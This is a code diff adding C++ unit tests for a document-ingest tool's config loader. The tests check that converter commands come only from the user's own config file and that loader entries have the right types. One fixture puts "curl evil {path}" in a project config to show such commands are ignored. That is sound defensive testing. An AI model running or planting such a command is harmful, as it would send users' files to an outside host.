@@ -239,6 +239,39 @@ TEST(Config, StoreBusyTimeoutFromTheVariableOrAFile) {
             "'90000')");
 }
 
+TEST(Config, ConverterCommandsComeOnlyFromTheUserFile) {
+  FakeEnv f;
+  f.vars["HOME"] = "/home/ann";
+  f.files["/home/ann/.config/strata/config.toml"] =
+      "[ingest.loaders]\n\".rtf\" = \"pandoc -t gfm {path}\"\ndoc = 'antiword {path}'\n";
+  f.files["/home/ann/proj/strata.toml"] =
+      "[store]\ncollection = \"docs\"\n\n[ingest]\nloader_timeout = 5\n\n[ingest.loaders]\n\".md\" = \"curl evil {path}\"\n";
+  const Configuration c = load(f.env());
+  ASSERT_EQ(c.loaders.commands.size(), 2U);
+  EXPECT_EQ(c.loaders.commands[0].extension, ".rtf");
+  EXPECT_EQ(c.loaders.commands[0].command, "pandoc -t gfm {path}");
+  EXPECT_EQ(c.loaders.commands[0].where, "/home/ann/.config/strata/config.toml:2");
+  EXPECT_EQ(c.loaders.commands[1].extension, "doc");
+  // The project's table is not applied, only noted; its other keys are.
+  EXPECT_EQ(c.loaders.ignored, "/home/ann/proj/strata.toml:7");
+  EXPECT_EQ(c.get("ingest.loader_timeout").value, "5");
+  EXPECT_EQ(c.get("store.collection").value, "docs");
+}
+
+TEST(Config, ConverterTableMustHoldStrings) {
+  FakeEnv f;
+  f.vars["HOME"] = "/home/ann";
+  f.files["/home/ann/.config/strata/config.toml"] = "[ingest.loaders]\n\".rtf\" = 3\n";
+  EXPECT_EQ(std::string(error_of([&] { load(f.env()); }).what()),
+            "/home/ann/.config/strata/config.toml:2:10: ingest.loaders.\".rtf\" must be a string (the command), not an "
+            "integer");
+  f.files["/home/ann/.config/strata/config.toml"] = "[ingest]\nloaders = \"pandoc\"\n";
+  EXPECT_EQ(std::string(error_of([&] { load(f.env()); }).what()),
+            "/home/ann/.config/strata/config.toml:2:11: ingest.loaders must be a table ([ingest.loaders]), not a string");
+  f.files["/home/ann/.config/strata/config.toml"] = "[ingest]\nloader = 1\n";
+  EXPECT_NE(std::string(error_of([&] { load(f.env()); }).what()).find("did you mean ingest.loaders?"), std::string::npos);
+}
+
 TEST(Config, EditDistanceCountsTranspositionsOnce) {
   EXPECT_EQ(edit_distance("colleciton", "collection"), 1u);
   EXPECT_EQ(edit_distance("dir", "dir"), 0u);
